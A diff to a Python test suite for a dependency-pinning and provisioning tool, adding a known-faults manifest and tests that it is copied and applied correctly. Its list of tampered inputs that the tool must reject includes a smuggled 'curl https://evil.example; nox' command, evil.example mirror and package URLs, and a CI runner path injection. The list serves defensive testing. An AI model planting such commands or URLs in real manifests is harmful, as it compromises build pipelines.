@@ -16,8 +16,9 @@ from provisioning.base.settings import MANIFESTS
 from tests.support.repositories import repository
 
 LOCK, PACKAGES, IMAGES = "manifests/locks/nox.txt", "manifests/image-packages.txt", "manifests/images.toml"
+FAULTS = "manifests/known_faults.toml"
 HASH = "0" * 64
-KEPT = (LOCK, "manifests/locks/llm.txt", "manifests/torch/index.txt", PACKAGES, IMAGES)
+KEPT = (LOCK, "manifests/locks/llm.txt", "manifests/torch/index.txt", PACKAGES, IMAGES, FAULTS)
 OTHERS = ("manifests/gate.toml", "manifests/profiles/wheels.toml", "manifests/wheels.json")
 
 
@@ -39,6 +40,7 @@ def newer(root: Path, tmp_path: Path) -> Path:
     edit(root / IMAGES, "bookworm-20250520-slim", "bookworm-20261116-slim")
     edit(root / IMAGES, "90522eeb7e5923ee2b871c639059537b30521272f10ca86fdbbbb2b75a8c40cd", HASH)
     edit(root / IMAGES, "epoch = 1747699200", "epoch = 1794787200")
+    edit(root / FAULTS, 'versions = ">=2.48,<2.51"', 'versions = ">=2.48,<2.51,<2.50.41"')
     folder = tmp_path / "pins"
     pins.write(folder, root)
     git(root, "checkout", "--quiet", ".")
@@ -58,20 +60,28 @@ def git(root: Path, *arguments: str) -> str:
 def test_what_one_job_writes_the_other_puts_into_place(root: Path, newer: Path) -> None:
     pins.apply(newer, root, None)
     changed = sorted(line[3:] for line in git(root, "status", "--porcelain").splitlines())
-    assert changed == sorted([LOCK, "manifests/torch/index.txt", PACKAGES, IMAGES])
+    assert changed == sorted([LOCK, "manifests/torch/index.txt", PACKAGES, IMAGES, FAULTS])
     assert (root / LOCK).read_bytes() == (newer / LOCK).read_bytes()
 
 
 def test_every_file_of_ours_is_what_its_kind_may_be(root: Path, tmp_path: Path) -> None:
     folder = tmp_path / "same"
     locks = [*MANIFESTS.glob("locks/*.txt"), *MANIFESTS.glob("torch/*.txt")]
-    for file in [*locks, MANIFESTS.parent / PACKAGES, MANIFESTS.parent / IMAGES]:
+    for file in [*locks, *(MANIFESTS.parent / name for name in (PACKAGES, IMAGES, FAULTS))]:
         for place in (folder, root):
             copy = place / file.relative_to(MANIFESTS.parent)
             copy.parent.mkdir(parents=True, exist_ok=True)
             shutil.copy(file, copy)
     git(root, "add", "--all")
     pins.apply(folder, root, None)
+
+
+def test_only_what_is_asked_for_is_handed_over(root: Path, tmp_path: Path) -> None:
+    edit(root / LOCK, "argcomplete==3.7.2", "argcomplete==3.8.0")
+    edit(root / FAULTS, 'versions = ">=2.48,<2.51"', 'versions = ">=2.48,<2.51,<2.50.41"')
+    pins.write(tmp_path / "faults", root, FAULTS)
+    handed = [file for file in (tmp_path / "faults").rglob("*") if file.is_file()]
+    assert {file.name for file in handed} == {pins.NOTHING, "known_faults.toml"}
 
 
 def test_where_nothing_is_newer_nothing_changes(root: Path, tmp_path: Path) -> None:
@@ -131,6 +141,8 @@ EVIL: dict[str, Callable[[Path], object]] = {
     "another key": append(IMAGES, 'mirror = "https://evil.example"\n'),
     "a package's address": append(PACKAGES, f"evil https://evil.example/x.deb {HASH}\n"),
     "a command for the runner": append(PACKAGES, "::add-path::/tmp\n"),
+    "other versions of a fault": change(FAULTS, "<2.50.41", "<2.50.41,>=1"),
+    "another command of a fault": change(FAULTS, 'show = "nox', 'show = "curl https://evil.example; nox'),
     "characters that hide": change(PACKAGES, "# Written", "# \u202eWritten"),
     "a huge file": lambda folder: (folder / LOCK).write_text("#" * (pins.LARGEST + 1)),
     "bytes": lambda folder: (folder / LOCK).write_bytes(b"\xff\n"),
